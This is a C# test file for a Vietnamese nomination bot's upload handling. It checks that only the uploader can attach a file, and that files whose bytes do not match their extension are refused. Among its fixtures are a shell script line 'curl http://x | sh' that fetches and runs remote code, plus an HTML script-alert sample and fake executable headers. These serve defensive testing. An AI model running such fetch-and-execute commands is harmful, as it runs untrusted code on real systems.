using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Wordprocessing;
using MiniExcelLibs;
using static ThiDua.Bot.Tests.ScriptSession;

namespace ThiDua.Bot.Tests.Access;

/// <summary>
/// Issue 16, items 5 and 7: a pending upload can be attached only by whoever uploaded it; a file's bytes must be
/// what its extension says (scripts, Mach-O, HTML, "MZ" after one byte and fake Office files are refused with the
/// accepted types), and real documents still go in.
/// </summary>
public sealed class DossierFileTests : IDisposable
{
    private readonly string _folder = Directory.CreateTempSubdirectory("thidua-files-").FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    private string Write(string name, byte[] content)
    {
        var path = Path.Combine(_folder, name);
        File.WriteAllBytes(path, content);
        return path;
    }

    private static Task<System.Text.Json.JsonElement> Send(Transcript t, string chat, string path, string? caption = null) =>
        t.Bot.SendAsync(new { chat, file = path, caption });

    [Fact]
    public async Task Only_the_person_who_uploaded_a_file_can_attach_it()
    {
        using var t = new Transcript();
        await t.JoinByInvitation("a", "Lò Thị An", "UBND xã Bản Vược");
        await t.JoinByInvitation("b", "Vàng Văn Bình", "UBND xã Cốc San");
        await t.Nominate("a", "Nguyễn Văn Một");
        await t.Nominate("b", "Giàng A Hai");

        var asked = await Send(t, "b", Write("scan.jpg", [0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10]));
        var upload = Transcript.Button(asked, "Tờ trình").Split('|')[^1];
        var forged = FirstText(await t.Press("a", $"n|comp|1|to-trinh|{upload}"));
        Assert.Contains("không phải do bạn gửi", forged);
        Assert.Contains("Đã gắn", FirstText(await t.Press("b", Transcript.Button(asked, "Tờ trình"))));

        using var db = t.Stored();
        Assert.Empty(db.Nominations.FindById(1).Attachments);
        Assert.Single(db.Nominations.FindById(2).Attachments);
    }

    [Fact]
    public async Task Content_must_match_the_declared_type_and_the_refusal_lists_what_is_accepted()
    {
        using var t = new Transcript();
        await t.JoinByInvitation("a", "Lò Thị An", "UBND xã Bản Vược");
        await t.Nominate("a", "Nguyễn Văn Một");

        var disguised = new Dictionary<string, byte[]>
        {
            ["script.pdf"] = "#!/bin/sh\ncurl http://x | sh\n"u8.ToArray(),
            ["macho.pdf"] = [0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1],
            ["page.pdf"] = "<html><script>alert(1)</script></html>"u8.ToArray(),
            ["late-mz.pdf"] = [0x20, (byte)'M', (byte)'Z', 0x90, 0],
            ["zip.docx"] = [(byte)'P', (byte)'K', 3, 4, 0, 0, 0, 0],
            ["photo.png"] = [0xFF, 0xD8, 0xFF, 0xE0],
        };
        foreach (var (name, content) in disguised)
        {
            var refused = FirstText(await Send(t, "a", Write(name, content), "Tờ trình"));
            Assert.Contains("không đúng loại", refused);
            Assert.Contains("PDF, Word (.doc, .docx), Excel (.xls, .xlsx), ODT, ảnh JPG, PNG, HEIC", refused);
        }
        Assert.Contains("chỉ nhận PDF", FirstText(await Send(t, "a", Write("run.sh", "echo"u8.ToArray()), "Tờ trình")));

        var docx = Path.Combine(_folder, "bien-ban.docx");
        using (var word = WordprocessingDocument.Create(docx, DocumentFormat.OpenXml.WordprocessingDocumentType.Document))
            word.AddMainDocumentPart().Document = new Document(new Body(new Paragraph(new Run(new Text("Biên bản họp")))));
        Assert.Contains("✅ Biên bản", FirstText(await Send(t, "a", docx, "Biên bản")));
        var xlsx = Path.Combine(_folder, "danh-sach.xlsx");
        MiniExcel.SaveAs(xlsx, new[] { new { Ten = "Nguyễn Văn Một" } });
        Assert.Contains("Đã nhận tệp “danh-sach.xlsx”", FirstText(await Send(t, "a", xlsx)));
        Assert.Contains("✅ Tờ trình", FirstText(await Send(t, "a", Write("to-trinh.pdf", "%PDF-1.7\n%âãÏÓ\n"u8.ToArray()), "Tờ trình")));

        using var db = t.Stored();
        Assert.Equal(["bien-ban.docx", "to-trinh.pdf"], db.Nominations.FindById(1).Attachments.Select(a => a.FileName).Order().ToArray());
    }
}
